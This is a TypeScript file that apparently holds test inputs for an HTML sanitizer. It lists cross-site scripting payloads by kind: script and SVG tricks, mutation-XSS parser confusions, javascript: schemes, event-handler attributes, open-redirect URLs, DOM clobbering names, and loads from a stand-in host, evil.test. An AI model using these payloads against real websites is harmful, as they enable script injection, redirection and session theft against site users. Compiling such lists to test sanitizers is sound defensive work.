/** Known ways to make a page run or read what it should not, by kind. None may leave more than plain words and elements. */
export const vectors: Record<string, string[]> = {
  scripts: [
    '<script>alert(1)</script>', '<SCRIPT SRC=//evil.test/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script\u0000>alert(1)</script>',
    '<script/x>alert(1)</script >', '<script type="application/json" id="composition">{"remotes":[]}</script>', '<script>alert(1)', '<<script>alert(1)//<</script>',
    '<script type="after-paint" src="/x.js"></script>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ],
  'foreign elements': [
    '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><script id="composition" type="application/json">{}</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    '<svg><animate attributeName=href values=javascript:alert(1) /></svg>', '<svg><foreignObject><iframe srcdoc="<script>1</script>"></iframe></foreignObject></svg>',
    '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>', '<math href="javascript:alert(1)">x</math>',
  ],
  'read otherwise the second time': [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<plaintext><img src=x onerror=alert(1)>', '<title><img title="</title><img src=x onerror=alert(1)>"></title>', '<select><template><img src=x onerror=alert(1)></template></select>',
    '<table><td><b><table><img src=x onerror=alert(1)>', '<img alt="<h2>x<img src=y onerror=alert(1)></h2>" src="/a.svg">', '<h2 lang="a><img src=x onerror=alert(1)>">x</h2>',
    '<img alt="`" src="/a.svg"onerror=alert(1)>', '<p title="&quot;&gt;&lt;script&gt;">x</p>',
  ],
  styles: [
    '<style>*{background:url(javascript:alert(1))}</style>', '<p style="width:expression(alert(1))">x</p>', '<p style="background:url(//evil.test)">x</p>',
    '<link rel=stylesheet href="//evil.test/x.css">', '<style data-fonts="x">p{}</style>', '<p style="-moz-binding:url(x)">x</p>',
  ],
  frames: [
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<iframe src=javascript:alert(1)></iframe>', '<frameset><frame src=javascript:alert(1)></frameset>',
    '<object data="javascript:alert(1)"></object>', '<embed src="data:text/html,<script>alert(1)</script>">', '<applet code=x></applet>', '<portal src="https://evil.test"></portal>',
  ],
  schemes: [
    '<a href="javascript:alert(1)">x</a>', '<a href=" JavaScript:alert(1)">x</a>', '<a href="java\tscript:alert(1)">x</a>', '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>', '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="jav&Tab;ascript&colon;alert(1)">x</a>', '<a href="\u0001javascript:alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>', '<a href="blob:https://site.test/x">x</a>', '<a href="file:///etc/passwd">x</a>', '<a href="view-source:https://x.test">x</a>',
    '<img src="javascript:alert(1)">', '<img src="data:image/svg+xml;base64,PHN2Zy8+">', '<a href="feed:javascript:alert(1)">x</a>',
  ],
  'other sites': [
    '<a href="//evil.test">x</a>', '<a href="/\\evil.test">x</a>', '<a href="\\\\evil.test">x</a>', '<a href="/\t/evil.test">x</a>', '<a href="\\/evil.test">x</a>',
    '<a href="///evil.test">x</a>', '<a href="/.//evil.test">x</a>', '<a href="..//evil.test">x</a>', '<a href="/&#92;evil.test">x</a>', '<a href="/&sol;evil.test">x</a>',
    '<a href="https:evil.test">x</a>', '<img src="//evil.test/x.png">', '<base href="//evil.test/">', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<a href="https://x.test" target="_blank">x</a>', '<a ping="//evil.test" href="/a">x</a>',
  ],
  attributes: [
    '<img src=x onerror=alert(1)>', '<p/onclick=alert(1)>x</p>', '<body onload=alert(1)>', '<details open ontoggle=alert(1)>x</details>', '<p OnMouseOver="alert(1)">x</p>',
    '<img srcset="javascript:alert(1) 1x, //evil.test/x 2x">', '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
    '<input autofocus onfocus=alert(1)>', '<video poster="javascript:alert(1)"><source onerror=alert(1)></video>', '<a xlink:href="javascript:alert(1)">x</a>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', '<blockquote cite="javascript:alert(1)">x</blockquote>', '<p is="x-evil">x</p>', '<p contenteditable>x</p>',
    '<a href=/a\u000conclick=alert(1)>x</a>', '<p nonce="x" slot="y" part="z" data-local="true">x</p>', '<marquee onstart=alert(1)>x</marquee>',
  ],
  'names of the page': [
    '<div id="composition">{"remotes":[]}</div>', '<p id="page-state">{}</p>', '<p id="root">x</p>', '<p id="main">x</p>', '<p id=unfinished>x</p>', '<a name="composition">x</a>',
    '<img name="getElementById">', '<img name="body" id="head">', '<form id="composition"><input name="textContent"></form>', '<a id=x></a><a id=x name=y href="data:x">x</a>',
    '<form name=x><input id=attributes></form>', '<iframe name=parent></iframe>', '<h2 id="__proto__">x</h2>', '<h2 id="a b">x</h2>', '<h2 id="a&quot;b">x</h2>', '<object name=currentScript></object>',
  ],
  'other markup': [
    '<!-- <img src=x onerror=alert(1)> -->', '<!--><script>alert(1)</script>-->', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><script>alert(1)</script>',
    '<!doctype html><html><head><base href=//evil.test></head>', '<template><script>alert(1)</script></template>', '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
    '</div></div></div><script>alert(1)</script>', '<custom-element onclick=alert(1)>x</custom-element>', '2 < 3 <3 </', '<p title="never closed>x',
  ],
};
